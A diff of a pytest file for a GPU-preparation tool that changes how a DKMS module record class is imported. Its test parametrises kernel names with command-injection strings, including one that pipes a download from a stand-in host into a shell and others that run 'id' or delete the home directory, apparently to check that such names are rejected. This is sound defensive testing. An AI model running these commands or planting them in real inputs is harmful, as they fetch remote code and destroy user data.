@@ -9,8 +9,7 @@ import pytest
 from builders import finished_snapshot, resolved
 from throughputrecords import judged, series, step
 
-from gpuprep import checks
-from gpuprep.records import DkmsModule
+from gpuprep import checks, records
 
 COMMANDS = ("6.1; curl evil.example | sh", "$(id)", "`id`", "6.1 && rm -rf ~", "6.1\n rm -rf ~", "-k; id")
 WANTED = resolved("t4")
@@ -19,7 +18,7 @@ WANTED = resolved("t4")
 @pytest.mark.parametrize("name", COMMANDS)
 def test_the_name_of_a_kernel(name: str) -> None:
     good = finished_snapshot(WANTED)
-    built = tuple(DkmsModule(m.module, m.version, "5.10.0", "built") for m in good.driver.dkms)
+    built = tuple(records.DkmsModule(m.module, m.version, "5.10.0", "built") for m in good.driver.dkms)
     odd = dataclasses.replace(
         good,
         kernel=dataclasses.replace(good.kernel, running=name, next_boot=name),
